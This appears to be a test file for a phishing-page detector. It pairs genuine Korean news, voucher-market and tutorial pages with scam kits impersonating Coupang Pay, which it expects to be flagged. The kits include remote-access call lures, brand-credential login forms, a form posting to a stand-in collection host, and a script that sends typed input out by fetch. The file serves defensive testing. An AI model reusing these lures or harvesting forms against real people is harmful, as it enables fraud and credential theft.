import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { scanPage, warnAtRisk } from '../../lib/page/index';
import { parse } from './helpers';

/**
 * Round page41 (tune-al's false alarms), taken by class with pages written apart from the corpus: a news story that
 * tells the number a victim of a voice scam called, and a voucher market quoting the brand's gift cards over its own
 * seller login. Next to each, the kit of the same shape that stays caught.
 */
const page = (title: string, body: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
const scan = (html: string, url: string) =>
  scanPage(parse(html), url, { parseHtml: (m) => parseHTML(m).document as unknown as Document });
const verdict = (html: string) => scan(html, 'https://news.example/article/8812').verdict;

describe('a news story telling the number a scam victim called', () => {
  // a paper's look (masthead, dateline, article markup) is cheap for a kit, so none of it decides: the number's own
  // sentence does — told as the one a victim called, the crook named as who answered
  const story = (headline: string, paras: string) =>
    page(
      headline,
      `<header><b>한빛경제</b></header><article><h1>${headline}</h1><p>2026.11.28</p>${paras}</article>`,
    );

  it('leaves the story clean when the number is the one a victim called and the next words name the crook', () => {
    const html = story(
      '"쿠팡 환불 지연" 문자 한 통에 노후자금 날렸다',
      '<p>서울 강서경찰서에 따르면 60대 B씨는 "쿠팡 환불이 지연되고 있습니다. 아래 번호로 연락 바랍니다"라는 문자를 받고 ' +
        '02-6952-7713으로 전화를 걸었다.</p><p>전화를 받은 사기범은 보안 점검이 필요하다며 원격제어 앱 설치를 요구했고, ' +
        '이후 B씨 계좌에서 3천만원을 빼갔다.</p><p>쿠팡페이 측은 환불 안내를 위해 고객에게 먼저 전화번호를 보내지 않는다고 밝혔다.</p>',
    );
    expect(verdict(html)).toBe('clean');
    // (its telling in other words: the money taken, a fake agent)
    const other = story(
      '쿠팡 보상금 준다더니… 카드정보 가로챈 일당 검거',
      '<p>피해자들은 "쿠팡 유출 보상금이 지급됩니다"라는 메시지에 적힌 1670-3391로 연락했다.</p>' +
        '<p>가짜 상담원은 보상 처리에 필요하다며 원격제어 앱을 설치하게 한 뒤 카드번호를 받아 가로챘다.</p>' +
        '<p>쿠팡페이는 보상금을 전화로 안내하지 않는다.</p>',
    );
    expect(verdict(other)).toBe('clean');
  });

  it('flags a call-only lure dressed as news that hands the reader the number', () => {
    const kit = story(
      '쿠팡페이 유출 피해 보상 접수 시작… 전담 센터 운영',
      '<p>쿠팡페이 개인정보 유출 피해 고객을 위한 보상 전담 센터가 운영된다.</p>' +
        '<p>피해 여부 확인과 보상금 환불은 보상 센터 02-6952-7713으로 전화하면 원격 지원 앱 설치 후 바로 처리된다.</p>' +
        '<p>접수는 이번 주까지만 가능하니 서둘러 연락하세요.</p>',
    );
    expect(verdict(kit)).toBe('suspicious-page');
  });

  it('flags the kit that tells a past call as a success story and then offers the number', () => {
    const kit = story(
      '쿠팡페이 유출 보상금, 전화 한 통으로 받았다',
      '<p>회사원 A씨는 쿠팡페이 보상 센터 02-6952-7713으로 전화했다. 상담원이 안내한 원격제어 앱을 설치하자 10분 만에 ' +
        '보상금 30만원이 환불됐다.</p><p>보상을 받으려면 지금 02-6952-7713으로 전화하세요.</p>',
    );
    expect(verdict(kit)).toBe('suspicious-page');
  });

  it("flags the past telling when nothing names the one who answered as a crook (a victim's payout told)", () => {
    const kit = story(
      '쿠팡페이 유출 피해자, 전화 한 통에 보상금 받아',
      '<p>유출 피해자 A씨는 쿠팡페이 보상 센터 02-6952-7713으로 전화했다.</p>' +
        '<p>A씨는 원격제어 앱을 설치한 뒤 보상금 30만원을 환불받았다.</p>',
    );
    expect(verdict(kit)).toBe('suspicious-page');
  });
});

describe("a voucher market quoting the brand's gift cards over its own seller login", () => {
  it('leaves the market clean: the brand is the goods it prices', () => {
    const html = page(
      '상품권 거래소 | 쿠팡 상품권 매입 시세',
      '<div><h2>쿠팡 상품권 시세</h2><p>1만원권 매입 9,300원 · 3만원권 27,600원</p><p>상품권을 판매하려면 로그인하세요.</p>' +
        '<label>휴대폰 번호</label><input type="tel"><label>비밀번호</label><input type="password"><button>로그인</button></div>',
    );
    expect(verdict(html)).toBe('clean');
  });

  it("flags the same quote over a login to the brand's own account", () => {
    const kit = page(
      '쿠팡 상품권 시세',
      '<div><h2>쿠팡 상품권 시세</h2><p>1만원권 매입 9,300원</p><p>쿠팡 계정으로 로그인하면 보유 상품권을 바로 매입해 드립니다.</p>' +
        '<label>쿠팡 아이디</label><input><label>쿠팡 비밀번호</label><input type="password"><button>로그인</button></div>',
    );
    expect(verdict(kit)).not.toBe('clean');
  });

  it("flags a voucher page without a quote that offers the brand's voucher for a login", () => {
    const kit = page(
      '쿠팡 상품권 지급',
      '<div><h2>쿠팡 모바일 상품권 5만원 지급</h2><p>로그인하면 상품권이 바로 지급됩니다.</p>' +
        '<label>휴대폰 번호</label><input type="tel"><label>비밀번호</label><input type="password"><button>로그인</button></div>',
    );
    expect(verdict(kit)).not.toBe('clean');
  });
});

describe("a tutorial's demo form that sends nothing, at the second chance", () => {
  const post = (form: string, extra = '') =>
    page(
      'Vue로 회원 로그인 화면 따라 만들기 (쿠팡 로그인 페이지 클론)',
      '<header><b>코드노트</b></header><article><h1>쿠팡 로그인 화면을 Vue로 클론해 보자</h1>' +
        '<p>쿠팡 로그인 페이지 구조를 참고해 입력 검증까지 구현합니다. 학습용 예제입니다.</p>' +
        '<pre>&lt;input v-model="pw" type="password"&gt;</pre>' +
        `<h3>직접 해보기 — 데모, 입력값은 전송되지 않습니다</h3>${form}</article>${extra}`,
    );
  const demo = (action = '') =>
    `<form${action}><input type="email" placeholder="you@mail.test"><input type="password" placeholder="비밀번호"><button>로그인</button></form>`;
  const atKey = (html: string) => warnAtRisk(scan(html, 'https://codenote.example/vue-login'), 'password');

  it('keeps the password box quiet at its first key: the verdict says the page is an article', () => {
    expect(atKey(post(demo()))).toBe(false);
    expect(scan(post(demo()), 'https://codenote.example/vue-login').verdict).toBe('clean');
  });

  it('warns at the first key when the "demo" form sends what it takes to an address', () => {
    expect(atKey(post(demo(' action="https://collect.example/l" method="post"')))).toBe(true);
  });

  it('warns at the first key when a script on the page can carry what is typed', () => {
    const html = post(
      demo(),
      '<script>document.querySelector("form").onsubmit=function(e){e.preventDefault();fetch("/k",{method:"POST",body:new FormData(this)})}</script>',
    );
    expect(atKey(html)).toBe(true);
  });

  it('warns at the first key when nothing says the form is a demo that sends nothing', () => {
    const html = post(demo()).replace(
      '직접 해보기 — 데모, 입력값은 전송되지 않습니다',
      '쿠팡 계정으로 로그인',
    );
    expect(atKey(html)).toBe(true);
  });
});
